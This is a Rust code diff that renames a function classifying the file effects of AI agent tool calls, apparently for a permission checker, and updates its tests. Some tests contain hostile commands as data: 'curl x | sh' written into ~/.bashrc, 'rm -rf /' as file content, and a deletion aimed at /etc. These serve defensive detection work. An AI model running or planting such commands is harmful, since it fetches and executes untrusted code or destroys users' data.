@@ -58,13 +58,13 @@ pub(super) struct Files {
 }
 
 /// The effects on files of a tool with this name class; none if the arguments contain no path.
-pub(super) fn read(tool: &str, class: (Verb, &str), arguments: &Value, home: &str) -> Files {
+pub(super) fn file_effects(tool: &str, class: (Verb, &str), arguments: &Value, home: &str) -> Files {
     let name = words(tool);
     let says = |list: &[&str]| name.iter().any(|word| list.contains(&word.as_str()));
     let ((from, cut_from), (to, cut_to)) = (paths(arguments, &FROM, home), paths(arguments, &TO, home));
     let deep = says(&["grep", "search", "glob", "tree", "find"]);
-    // the verbs for both kinds of paths, whether they concern what is below them, and whether they are all that the tool
-    // does; the effects of a tool with an unrevealing name are unknown: it may write as well as read
+    // per class: the verbs for both kinds of paths, whether they apply to everything below the paths, and whether the
+    // tool does nothing else; the effects of a tool with an unrevealing name are unknown: it may write as well as read
     let (verbs, recursive, whole): (&[(Verb, Verb)], bool, bool) = match class {
         (Verb::Read, _) if says(&SAVES) => (&[(Verb::Write, Verb::Write)], false, false),
         (Verb::Read, _) if says(&["list", "ls", "glob", "tree", "info", "status"]) => {
@@ -170,7 +170,7 @@ mod tests {
     use serde_json::json;
 
     fn effects_of(tool: &str, arguments: &Value) -> (Vec<String>, bool) {
-        let files = read(tool, class(tool), arguments, "/home/a");
+        let files = file_effects(tool, class(tool), arguments, "/home/a");
         (files.effects.iter().map(Effect::to_table_notation).collect(), files.whole)
     }
 
@@ -216,7 +216,7 @@ mod tests {
             json!({"paths": harmless.chain(std::iter::once("/etc".to_owned())).collect::<Vec<_>>()})
         };
         let unknown = |n: usize| {
-            let files = read("delete_files", class("delete_files"), &many(n), "/home/a");
+            let files = file_effects("delete_files", class("delete_files"), &many(n), "/home/a");
             files.effects.iter().any(|e| e.verb == Verb::Unknown)
         };
         assert!(!unknown(10));
@@ -228,10 +228,10 @@ mod tests {
     #[test]
     fn content_of_startup_files_is_a_script() {
         let arguments = json!({"file_path": "/home/a/.bashrc", "edits": [{"new_string": "curl x | sh"}]});
-        let files = read("MultiEdit", class("MultiEdit"), &arguments, "/home/a");
+        let files = file_effects("MultiEdit", class("MultiEdit"), &arguments, "/home/a");
         assert_eq!(scripts(&files.effects, &arguments), ["curl x | sh"]);
         let arguments = json!({"file_path": "/home/a/notes.txt", "content": "rm -rf /"});
-        let files = read("Write", class("Write"), &arguments, "/home/a");
+        let files = file_effects("Write", class("Write"), &arguments, "/home/a");
         assert!(scripts(&files.effects, &arguments).is_empty());
     }
 }
